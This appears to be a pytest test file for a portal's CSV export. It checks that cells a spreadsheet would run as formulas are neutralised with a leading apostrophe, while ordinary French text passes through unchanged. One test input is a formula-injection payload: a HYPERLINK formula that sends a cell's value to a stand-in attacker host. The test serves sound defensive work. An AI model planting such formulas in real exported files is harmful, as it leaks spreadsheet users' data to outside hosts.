"""Every CSV cell the portal writes is safe to open in a spreadsheet (security review, finding 7)."""

from __future__ import annotations

import csv
import io

import pytest

from portal_app.domain.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://pirate.example/?x="&A1;"clic")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(hostile):
    assert safe_cell(hostile) == "'" + hostile
    rows = list(csv.reader(io.StringIO(csv_text(["remarque"], [[hostile]]).lstrip("\ufeff")), delimiter=";"))
    assert rows[1] == ["'" + hostile]


@pytest.mark.parametrize("harmless", ["Sonner deux fois", "07:45", "12 rue de la Roquette", "", "École = maison"])
def test_ordinary_cells_are_unchanged(harmless):
    assert safe_cell(harmless) == harmless


def test_the_file_keeps_its_bom_separator_and_line_ends():
    text = csv_text(["a", "b"], [["1", None]])
    assert text == "\ufeffa;b\r\n1;\r\n"
